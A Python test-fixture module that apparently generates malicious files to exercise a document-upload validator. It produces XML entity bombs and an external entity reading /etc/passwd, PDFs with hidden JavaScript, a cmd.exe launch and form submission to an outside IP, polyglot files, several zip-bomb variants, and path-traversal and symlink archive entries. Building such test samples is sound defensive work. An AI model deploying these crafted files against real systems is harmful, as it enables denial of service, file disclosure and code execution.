"""Files that mean harm, built in code. Each function gives bytes."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from .honest import TYPES, archive, minimal_docx, pdf, picture, word, written

BILLION = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><d>&i;</d>"
)
OUTSIDE_ENTITY = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'


def pdf_with(action: DictionaryObject | None = None, **names: DictionaryObject) -> bytes:
    """A PDF that opens with an action, or has these things in its catalogue."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if action is not None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    for name, value in names.items():
        writer._root_object[NameObject(f"/{name}")] = value
    return written(writer)


def action(kind: str, **values: str) -> DictionaryObject:
    """An action of a PDF."""
    return DictionaryObject(
        {NameObject("/S"): NameObject(f"/{kind}")}
        | {NameObject(f"/{key}"): TextStringObject(value) for key, value in values.items()}
    )


def pdf_javascript() -> bytes:
    return pdf_with(action("JavaScript", JS="app.alert(1)"))


def pdf_javascript_escaped() -> bytes:
    return pdf_javascript().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def pdf_javascript_in_object_stream() -> bytes:
    """The action packed away where a search of the bytes does not see it."""
    packed = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>",
    ]
    out = bytearray(b"%PDF-1.5\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    stream = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    out += packed + b"\nendstream\nendobj\n"
    table = len(out)
    rows = [b"\0\0\0\0\0", *(struct.pack(">BHH", 1, place, 0) for place in places)]
    rows += [struct.pack(">BHH", 2, 5, 0), struct.pack(">BHH", 1, stream, 0), struct.pack(">BHH", 1, table, 0)]
    data = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data)
    out += data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(out)


def pdf_launch() -> bytes:
    return pdf_with(action("Launch", F="cmd.exe"))


def pdf_submit() -> bytes:
    return pdf_with(action("SubmitForm", F="http://192.0.2.1/"))


def pdf_go_outside() -> bytes:
    return pdf_with(action("GoToR", F="\\\\192.0.2.1\\share\\x.pdf"))


def pdf_xfa() -> bytes:
    return pdf_with(AcroForm=DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")}))


def pdf_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.add_attachment("invoice.exe", b"MZ")
    return written(writer)


def pdf_locked() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    return written(writer)


def pdf_many_pages() -> bytes:
    """A tree of pages that names one page two thousand and one times."""
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    pages = writer._pages.get_object()
    assert isinstance(pages, DictionaryObject)
    kids = pages[NameObject("/Kids")]
    pages[NameObject("/Kids")] = ArrayObject(list(kids) * 2001)  # type: ignore[call-overload]
    pages[NameObject("/Count")] = NumberObject(2001)
    return written(writer)


def pdf_circle_of_pages() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    pages = writer._pages.get_object()
    assert isinstance(pages, DictionaryObject)
    pages[NameObject("/Kids")] = ArrayObject([writer._pages])
    return written(writer)


def pdf_then_zip() -> bytes:
    return pdf() + archive({"x.exe": "MZ"})


def pdf_holding_zip() -> bytes:
    """A ZIP between a PDF's header and its end, whose directory is the last thing before the end mark."""
    return pdf().replace(b"%%EOF", b"") + archive({"x.exe": "MZ"}) + b"\n%%EOF\n"


def jpeg_then_zip() -> bytes:
    return picture("JPEG") + archive({"x.exe": "MZ"})


def png_then_html() -> bytes:
    return picture() + b"<html><script>alert(1)</script></html>"


def png_with_html_in_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "<script>alert(1)</script>")
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "PNG", pnginfo=text)
    return out.getvalue()


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that says it is so large and holds next to nothing."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def gif_with_script() -> bytes:
    return b"GIF89a/*\x01\x00\x01\x00*/=1;alert(1)//;"


def zip_then_docx() -> bytes:
    """Something else first, then a Word file: programs that read ZIPs from the end open the latter."""
    return b"#!/bin/sh\nexit\n" + word()


def docx_behind_docx() -> bytes:
    """Two Word files in one: the first byte is the one's, the directory is the other's."""
    return word() + word(text="other")


def docx_bomb_flat() -> bytes:
    return minimal_docx(word__media_dot_xml=b"<d>" + b" " * 200_000_000 + b"</d>")


def docx_bomb_many() -> bytes:
    parts: dict[str, str | bytes] = {"[Content_Types].xml": TYPES, "word/document.xml": "<d/>"}
    return archive(parts | {f"word/{n}.xml": "" for n in range(5001)}, packed=zipfile.ZIP_STORED)


def docx_bomb_overlapping() -> bytes:
    """A bomb without nesting: many entries of the directory name one and the same packed content."""
    data = bytearray(minimal_docx(a_dot_xml="<d>" + "a" * 1000 + "</d>", b_dot_xml="<d>" + "a" * 1000 + "</d>"))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as made:
        first, second = made.getinfo("a.xml"), made.getinfo("b.xml")
    place = data.rindex(b"b.xml") - 4  # the offset of the second's header stands before its name
    assert struct.unpack_from("<I", data, place)[0] == second.header_offset
    struct.pack_into("<I", data, place, first.header_offset)
    return bytes(data)


def docx_bomb_nested() -> bytes:
    inner = archive({"0": b"\0" * 5_000_000})
    for _ in range(3):
        inner = archive({f"{n}.zip": inner for n in range(10)}, packed=zipfile.ZIP_STORED)
    return minimal_docx(word__embeddings__x_dot_zip=inner)


def docx_lying_about_size() -> bytes:
    """An entry that says it unpacks to a hundred bytes and unpacks to a hundred million."""
    data = bytearray(minimal_docx(word__x_dot_xml=b"<d>" + b" " * 100_000_000 + b"</d>"))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as made:
        entry = made.getinfo("word/x.xml")
    struct.pack_into("<I", data, entry.header_offset + 22, 100)
    struct.pack_into("<I", data, data.rindex(b"word/x.xml") - 46 + 24, 100)
    return bytes(data)


def docx_with_entry(name: str) -> bytes:
    return archive({"[Content_Types].xml": TYPES, "word/document.xml": "<d/>", name: "x"})


def docx_with_backslash() -> bytes:
    return docx_with_entry("..__evil.xml").replace(b"..__evil.xml", b"..\\\\evil.xml")


def docx_with_double_entry() -> bytes:
    return docx_with_entry("word/docvment.xml").replace(b"word/docvment.xml", b"word/document.xml")


def docx_locked_entry() -> bytes:
    data = bytearray(minimal_docx())
    place = data.rindex(b"word/document.xml") - 46
    data[place + 8] |= 1
    return bytes(data)


def docx_link_entry() -> bytes:
    out = io.BytesIO(minimal_docx())
    with zipfile.ZipFile(out, "a") as made:
        entry = zipfile.ZipInfo("word/link.xml")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
    return out.getvalue()


def docx_long_comment() -> bytes:
    out = io.BytesIO(minimal_docx())
    with zipfile.ZipFile(out, "a") as made:
        made.comment = b"<script>alert(1)</script>" * 100
    return out.getvalue()


def truncated(data: bytes) -> bytes:
    return data[: len(data) * 2 // 3]
